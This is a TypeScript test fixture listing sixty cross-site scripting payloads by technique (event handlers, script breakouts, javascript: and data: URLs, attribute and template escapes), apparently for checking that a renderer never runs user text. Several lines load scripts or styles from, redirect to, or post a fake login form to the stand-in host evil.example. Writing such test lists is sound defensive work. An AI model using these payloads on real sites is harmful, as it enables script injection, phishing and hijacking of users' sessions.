/** The code that runs if a text is interpreted as code. */
const RUN = "window.__xss=1";
const BIDI = "\u202e\u2066\u200f";
const ZERO_WIDTH = "\u200b\u200d\u2060\ufeff";

/** Sixty texts that try to be interpreted as markup or code (docs/threats.md C7), by method. */
export const payloads: string[] = [
	// Elements with an event handler
	`<img src=x onerror=${RUN}>`,
	`<img src="x" onerror="${RUN}">`,
	`<IMG SRC=x OnErRoR=${RUN}>`,
	`<img/src=x/onerror=${RUN}>`,
	`<svg onload=${RUN}>`,
	`<svg/onload=${RUN}//`,
	`<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
	`<svg><script>${RUN}</script></svg>`,
	`<body onload=${RUN}>`,
	`<input autofocus onfocus=${RUN}>`,
	`<details open ontoggle=${RUN}>three</details>`,
	`<video src=x onerror=${RUN}></video>`,
	`<audio src=x onerror=${RUN}>`,
	`<marquee onstart=${RUN}>`,
	`<a href="#" onmouseover=${RUN} style="position:fixed;inset:0">everywhere</a>`,
	// Whole scripts and documents
	`<script>${RUN}</script>`,
	`<ScRiPt >${RUN}</sCrIpT>`,
	`<script src=https://evil.example/x.js></script>`,
	`<scr<script>ipt>${RUN}</scr</script>ipt>`,
	`<iframe src="javascript:parent.__xss=1"></iframe>`,
	`<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
	`<object data="data:text/html,<script>${RUN}</script>"></object>`,
	`<embed src="data:text/html,<script>${RUN}</script>">`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<style>@import "https://evil.example/x.css"; *{display:none}</style>`,
	`<form action="https://evil.example/"><button>Log in</button></form>`,
	// URLs
	`javascript:${RUN}`,
	`JaVaScRiPt:${RUN}//https://genga.test/`,
	`java\tscript:${RUN}`,
	` \u0001javascript:${RUN}`,
	`data:text/html,<script>${RUN}</script>`,
	`data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==`,
	`data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
	`vbscript:msgbox(1)`,
	`//evil.example/"onerror="${RUN}`,
	`https://evil.example/" onerror="${RUN}" x="`,
	`/media/../x" onerror="${RUN}`,
	`url("javascript:${RUN}")`,
	// Breaking out of an attribute
	`" autofocus onfocus="${RUN}`,
	`' onmouseover='${RUN}' x='`,
	`"><svg/onload=${RUN}>`,
	`'><img src=x onerror=${RUN}>`,
	`\` onerror=${RUN}`,
	// Breaking out of a script, its data, a comment, a text area or a title
	`</script><script>${RUN}</script>`,
	`</SCRIPT ><img src=x onerror=${RUN}>`,
	`<!--<script>${RUN}//-->`,
	`--><script>${RUN}</script><!--`,
	`</title><script>${RUN}</script>`,
	`</textarea><img src=x onerror=${RUN}>`,
	`"}];${RUN};//`,
	`\\"}];${RUN};//`,
	`\u2028${RUN}\u2029//`,
	`]]><script>${RUN}</script>`,
	// Templates, incomplete tags, and texts that only look dangerous
	`{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %> #{${RUN}}`,
	`<img src=x onerror=${RUN}`,
	`&lt;script&gt;${RUN}&lt;/script&gt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e`,
	`${BIDI}<script>${RUN}</script>${ZERO_WIDTH}txet`,
	`<b onmouseover=${RUN}>`.repeat(300).padEnd(10_000, "x"),
];
